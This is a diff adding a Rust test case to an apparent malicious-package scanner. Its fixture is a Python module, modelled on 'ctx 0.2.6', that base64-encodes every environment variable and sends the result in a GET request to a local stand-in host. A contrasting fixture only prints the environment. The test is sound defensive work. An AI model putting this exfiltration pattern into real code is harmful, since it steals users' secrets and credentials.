@@ -825,3 +825,15 @@ fn an_environment_secret_kept_on_self_and_sent_by_another_method_is_malicious() 
     let r = sdist(&[("setup.py", SETUP), ("client.py", sdk)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_function_that_walks_the_environment_and_sends_is_malicious() {
+    // ctx 0.2.6: every value, joined, base64-encoded, put in a GET.
+    let module = "import base64, requests\nfrom os import environ\n\ndef send():\n    s = ''\n    for _, value in environ.items():\n        s += value + ' '\n    requests.get('http://127.0.0.1:9/h/' + base64.b64encode(s.encode()).decode())\n";
+    let r = sdist(&[("setup.py", SETUP), ("ctx.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Walking the environment to print it sends nothing.
+    let show = "from os import environ\n\ndef show():\n    for k, v in environ.items():\n        print(k, v)\n";
+    let r = sdist(&[("setup.py", SETUP), ("ctx.py", show)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
